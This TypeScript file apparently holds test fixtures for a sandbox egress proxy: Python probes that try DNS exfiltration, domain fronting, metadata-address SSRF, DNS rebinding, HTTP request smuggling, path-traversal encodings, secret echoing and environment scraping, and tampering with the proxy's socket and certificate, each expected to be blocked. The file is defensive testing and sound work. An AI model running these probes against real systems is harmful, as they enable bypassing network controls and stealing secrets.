/** What a program prints when the protection holds. The tripwires hold for every program. */
export interface NetworkProgram {
  readonly family: string
  readonly name: string
  /** Python after the prelude. */
  readonly code: string
  /** Every line of the output has to match. */
  readonly expected: RegExp
}

export const ALLOWED = 'api.example.com'
export const DENIED = 'denied.example.com'
/** Allowed by the policy; their addresses are not public. */
export const INWARD = {
  loopback: 'lo.inward.example',
  mapped: 'mapped.inward.example',
  meta: 'meta.inward.example',
  shared: 'carrier.inward.example',
}
/** Public at first, private when it is asked again. */
export const REBINDING = 'rebind.inward.example'
export const NEIGHBOUR = 'neighbour.example.com'
export const PLACEHOLDER = 'cellblock-secret-TOKEN-5f3a9c'

/** Raw bytes to the proxy, so that no library hides what a hostile program can send. */
export const PRELUDE = `
import base64, os, socket, ssl, subprocess, sys, ctypes
P = "${PLACEHOLDER}"
def dial():
    s = socket.create_connection(("127.0.0.1", 3128), 15); s.settimeout(15); return s
def rest(s):
    out = b""
    try:
        while part := s.recv(65536): out += part
    except OSError as e:
        out += f"\\n{type(e).__name__}".encode() if not out else b""
    return out.decode("latin-1")
def raw(text, s=None):
    s = s or dial(); s.sendall(text if isinstance(text, bytes) else text.encode("latin-1")); return rest(s)
def connect(authority, extra=""):
    s = dial(); s.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n{extra}\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        part = s.recv(1)
        if not part: break
        head += part
    return s, head.decode("latin-1")
def tls(host, sni=None, authority=None, alpn=None):
    s, head = connect(authority or f"{host}:443")
    if " 200 " not in head.split("\\r\\n")[0]: raise OSError(head.split("\\r\\n")[0])
    c = ssl.create_default_context()
    c.check_hostname = False
    if alpn: c.set_alpn_protocols(alpn)
    return c.wrap_socket(s, server_hostname=host if sni is None else sni or None)
def ask(lines, host="${ALLOWED}", **more):
    return raw("\\r\\n".join([*lines, "Connection: close", "", ""]), tls(host, **more))
def send(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return f"sent {s.sendto(bytes(30), (host, port))}"
def first(text): return text.split("\\r\\n")[0].split("\\n")[0] if text else "(closed)"
def attempt(call):
    try: return first(str(call()))
    except BaseException as e: return f"{type(e).__name__}: {e}"
`

const program = (family: string, expected: RegExp, programs: Readonly<Record<string, string>>): readonly NetworkProgram[] =>
  Object.entries(programs).map(([name, code]) => ({ family, name, code, expected }))

const NO_NAME =
  /^((gaierror|herror): .+|(OSError: )?HTTP\/1\.1 403 .+|OSError: \[Errno 101\] Network is unreachable|-1|exit status 2|\w+ is not available in this sandbox.*|EAI_AGAIN|ECONNREFUSED)$/
const REFUSED = /^((OSError: )?HTTP\/1\.1 (403|400) .+|SSL\w*Error: .+|ConnectionResetError: .+|\(closed\))$/
const FORBIDDEN = /HTTP\/1\.1 403 /

const DNS = program('names', NO_NAME, {
  getaddrinfo: `print(attempt(lambda: socket.getaddrinfo("leak.${DENIED}", 443)))`,
  gethostbyname: `print(attempt(lambda: socket.gethostbyname("leak.${DENIED}")))`,
  'reverse lookup': `print(attempt(lambda: socket.gethostbyaddr("8.8.8.8")))`,
  'UDP to port 53': `print(attempt(lambda: send("8.8.8.8", 53)))`,
  'TCP to port 53': `print(attempt(lambda: socket.create_connection(("8.8.8.8", 53), 3)))`,
  'IPv6 to port 53': `print(attempt(lambda: socket.create_connection(("2001:4860:4860::8888", 53), 3)))`,
  'res_query of the C library': `lib = ctypes.CDLL("libresolv.so.2"); print(getattr(lib, "res_query", lib.__res_query if hasattr(lib, "__res_query") else None)(b"leak.${DENIED}", 1, 1, ctypes.create_string_buffer(512), 512))`,
  getent: `print("exit status", subprocess.run(["getent", "hosts", "leak.${DENIED}"]).returncode)`,
  'nslookup and dig': `print(subprocess.run("nslookup leak.${DENIED} 8.8.8.8; dig @8.8.8.8 leak.${DENIED}", shell=True, capture_output=True, text=True).stderr)`,
  'lookup and resolve of Node': `print(subprocess.run(["node", "-e", "const d = require('dns'); d.lookup('leak.${DENIED}', (e) => console.log(e.code)); d.resolve4('leak.${DENIED}', (e) => console.log(e.code))"], capture_output=True, text=True).stdout)`,
  'multicast DNS': `print(attempt(lambda: send("224.0.0.251", 5353)))`,
  'DNS over HTTPS': `print(attempt(lambda: tls("cloudflare-dns.com")))`,
  'DNS over TLS': `print(first(connect("1.1.1.1:853")[1]))`,
  'data in the name of a denied host': `print(first(connect("c2VjcmV0LWRhdGE.${DENIED}:443")[1]))`,
})

const FRONTING = program('another host behind an allowed one', REFUSED, {
  'TLS name of another host': `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${DENIED}"], sni="${DENIED}")))`,
  'no TLS name': `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${ALLOWED}"], sni="")))`,
  'Host header of another host': `print(attempt(lambda: ask(["GET /read/x HTTP/1.1", "Host: ${DENIED}"])))`,
  'two Host headers': `print(attempt(lambda: ask(["GET /read/x HTTP/1.1", "Host: ${ALLOWED}", "Host: ${DENIED}"])))`,
  'no Host header': `print(attempt(lambda: ask(["GET /read/x HTTP/1.0"])))`,
  'absolute address in a tunnel': `print(attempt(lambda: ask(["GET https://${DENIED}/read/x HTTP/1.1", "Host: ${DENIED}"])))`,
  'absolute address with another Host header': `print(first(raw("GET http://${ALLOWED}/read/x HTTP/1.1\\r\\nHost: ${DENIED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
  'user name that looks like the host': `print(first(raw("GET http://${ALLOWED}@${DENIED}/read/x HTTP/1.1\\r\\nHost: ${DENIED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
})

const INWARDS = program('names that lead inward', /403 The address of \S+ is not public/, {
  loopback: `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${INWARD.loopback}"], host="${INWARD.loopback}")))`,
  'mapped IPv4': `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${INWARD.mapped}"], host="${INWARD.mapped}")))`,
  metadata: `print(attempt(lambda: ask(["GET /latest/meta-data/ HTTP/1.1", "Host: ${INWARD.meta}"], host="${INWARD.meta}")))`,
  'shared address space': `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${INWARD.shared}"], host="${INWARD.shared}")))`,
  'one public and one private address': `print(attempt(lambda: ask(["GET / HTTP/1.1", "Host: ${REBINDING}"], host="${REBINDING}")))`,
})

const RAW = program('other ways out', /^(HTTP\/1\.1 (400|403|503) .+|(OSError|PermissionError): \[Errno \d+\] .+|\(closed\))$/, {
  'an address': `print(first(connect("93.184.215.14:443")[1]))`,
  'an IPv6 address': `print(first(connect("[2606:2800::1]:443")[1]))`,
  'an address as a number': `print(first(connect("2130706433:443")[1]))`,
  'an address in hexadecimal': `print(first(connect("0x7f000001:443")[1]))`,
  'metadata address': `print(first(raw("GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n")))`,
  'mail port': `print(first(connect("${ALLOWED}:25")[1]))`,
  'SSH port': `print(first(connect("${ALLOWED}:22")[1]))`,
  'another HTTPS port': `print(first(connect("${ALLOWED}:8443")[1]))`,
  SOCKS: `print(first(raw(b"\\x05\\x01\\x00")))`,
  'FTP address': `print(first(raw("GET ftp://${ALLOWED}/ HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
  'HTTPS address without a tunnel': `print(first(raw("GET https://${ALLOWED}/read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n")))`,
  'a direct connection': `print(attempt(lambda: socket.create_connection(("93.184.215.14", 443), 3)))`,
  'UDP for QUIC': `print(attempt(lambda: send("93.184.215.14", 443)))`,
  vsock: `print(attempt(lambda: socket.socket(40, socket.SOCK_STREAM)))`,
  'final dot and upper case of a denied host': `print(first(connect("DENIED.EXAMPLE.COM.:443")[1]))`,
})

const OUTWARD = program('data through an allowed host', FORBIDDEN, {
  POST: `print(first(raw("POST /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nContent-Length: 6\\r\\nConnection: close\\r\\n\\r\\nsecret", tls("${ALLOWED}"))))`,
  PUT: `print(attempt(lambda: ask(["PUT /read/x HTTP/1.1", "Host: ${ALLOWED}", "Content-Length: 0"])))`,
  'another path': `print(attempt(lambda: ask(["GET /write HTTP/1.1", "Host: ${ALLOWED}"])))`,
  'dot segments': `print(attempt(lambda: ask(["GET /read/../write HTTP/1.1", "Host: ${ALLOWED}"])))`,
  'encoded dot segments': `print(attempt(lambda: ask(["GET /read/%2e%2e/write HTTP/1.1", "Host: ${ALLOWED}"])))`,
  'encoded slash': `print(attempt(lambda: ask(["GET /read/..%2fwrite HTTP/1.1", "Host: ${ALLOWED}"])))`,
  'twice encoded': `print(attempt(lambda: ask(["GET /read/%252e%252e/write HTTP/1.1", "Host: ${ALLOWED}"])))`,
  backslash: `print(attempt(lambda: ask(["GET /read/..\\\\write HTTP/1.1", "Host: ${ALLOWED}"])))`,
  'an unknown method': `print(attempt(lambda: ask(["PROPFIND /read/x HTTP/1.1", "Host: ${ALLOWED}"])))`,
})

const SECRETS = program('secrets', /^(no secret|HTTP\/1\.1 403 .*)$/, {
  'echo in a body': `print("no secret" if "sk-live" not in ask(["GET /read/echo HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}"]) else "SECRET")`,
  'echo in a header': `print("no secret" if "sk-live" not in ask(["GET /read/header HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}"]) else "SECRET")`,
  'echo in a redirect': `print("no secret" if "sk-live" not in ask(["GET /read/redirect HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}"]) else "SECRET")`,
  'echo in base64': `print("no secret" if base64.b64encode(b"u:sk-live").decode()[:8] not in ask(["GET /read/echo HTTP/1.1", "Host: ${ALLOWED}", "Authorization: Basic " + base64.b64encode(f"u:{P}".encode()).decode()]) else "SECRET")`,
  'echo in parts': `print("no secret" if all("k-live" not in ask(["GET /read/echo HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}", f"Range: bytes={n}-{n + 5}"]) for n in range(3)) else "SECRET")`,
  'compressed echo': `print("no secret" if "sk-live" not in ask(["GET /read/gzip HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}", "Accept-Encoding: gzip"]) else "SECRET")`,
  'echo of an earlier request': `ask(["GET /read/store HTTP/1.1", "Host: ${ALLOWED}", f"X-Key: {P}"]); print("no secret" if "sk-live" not in ask(["GET /read/stored HTTP/1.1", "Host: ${ALLOWED}"]) else "SECRET")`,
  'over plain HTTP': `print("no secret" if "sk-live" not in raw(f"GET http://${ALLOWED}/read/echo HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nX-Key: {P}\\r\\nConnection: close\\r\\n\\r\\n") else "SECRET")`,
  'in variables, memory and files of the sandbox': `found = [name for name, value in os.environ.items() if "sk-live" in value]; print("no secret" if not found and "sk-live" not in open("/proc/self/environ", "rb").read().decode("latin-1") and "sk-live" not in subprocess.run("grep -rl sk-liv[e] /run /tmp /home 2>/dev/null", shell=True, capture_output=True, text=True).stdout else "SECRET")`,
})

const SMUGGLING = program(
  'a second request',
  /^(refused|HTTP\/1\.1 40[03] .*|\(closed\)|SSL\S*: .*|\[SSL: TLSV1_ALERT_NO_APPLICATION_PROTOCOL\] .*)$/,
  {
    'length and chunks': `t = raw("GET /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /write HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nContent-Length: 0\\r\\n\\r\\n", tls("${ALLOWED}")); print("refused" if "wrote" not in t else "WROTE")`,
    'two lengths': `t = raw("GET /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\nPOST /write HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\n\\r\\n", tls("${ALLOWED}")); print("refused" if "wrote" not in t else "WROTE")`,
    'pipelined after an allowed one': `t = raw("GET /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\n\\r\\nPOST /write HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n", tls("${ALLOWED}")); print("refused" if "wrote" not in t and "403" in t else "WROTE")`,
    'another host on the same connection': `t = raw("GET /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\n\\r\\nGET /read/x HTTP/1.1\\r\\nHost: ${DENIED}\\r\\nConnection: close\\r\\n\\r\\n", tls("${ALLOWED}")); print("refused" if "403" in t else "WROTE")`,
    'folded header': `t = raw("GET /read/x HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nX: a\\r\\n Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /write HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\n\\r\\n", tls("${ALLOWED}")); print("refused" if "wrote" not in t else "WROTE")`,
    'line feeds alone': `t = raw("GET /read/x HTTP/1.1\\nHost: ${ALLOWED}\\n\\nPOST /write HTTP/1.1\\nHost: ${ALLOWED}\\nContent-Length: 0\\n\\n", tls("${ALLOWED}")); print("refused" if "wrote" not in t else "WROTE")`,
    'HTTP/2': `s = tls("${ALLOWED}", alpn=["h2"]); print("refused" if s.selected_alpn_protocol() is None and "wrote" not in raw(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", s) else "WROTE") if True else None`,
    'upgrade to a web socket': `t = ask(["GET /read/x HTTP/1.1", "Host: ${ALLOWED}", "Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 13"]); print("refused" if " 101 " not in t else "WROTE")`,
    'a method in a header': `t = ask(["GET /read/x HTTP/1.1", "Host: ${ALLOWED}", "X-HTTP-Method-Override: DELETE"]); print("refused" if "DELETE" not in t else "WROTE")`,
  },
)

const NEIGHBOURS = program(
  'the gateway of a neighbour',
  /^(refused|HTTP\/1\.1 (403|400) .*|(OSError|PermissionError|FileNotFoundError|ConnectionRefusedError|ConnectionResetError): .+)$/,
  {
    'host of the neighbour': `print(first(connect("${NEIGHBOUR}:443")[1]))`,
    'id of the neighbour in headers': `print(first(connect("${NEIGHBOUR}:443", "Cellblock-Container: cntr_neighbour\\r\\nProxy-Authorization: Basic Y250cl9uZWlnaGJvdXI6\\r\\nX-Forwarded-For: cntr_neighbour\\r\\n")[1]))`,
    'the control socket': `s = socket.socket(socket.AF_UNIX); print(attempt(lambda: s.connect("/run/cellblock/control/supervisor.sock")))`,
    'the certificate': `print(attempt(lambda: open("/run/network/ca.pem", "a")))`,
    'the folder of the proxy': `print(attempt(lambda: os.rename("/run/network/proxy", "/run/network/other")))`,
    'another socket in its place': `print(attempt(lambda: os.unlink("/run/network/proxy")))`,
    'the routes of the supervisor through the proxy': `print(first(raw("PUT /network HTTP/1.1\\r\\nHost: sandbox\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")))`,
    'a key of the authority': `print("refused" if "PRIVATE" not in open("/run/network/ca.pem").read() else "KEY")`,
  },
)

export const NETWORK_PROGRAMS: readonly NetworkProgram[] = [
  ...DNS,
  ...FRONTING,
  ...INWARDS,
  ...RAW,
  ...OUTWARD,
  ...SECRETS,
  ...SMUGGLING,
  ...NEIGHBOURS,
]
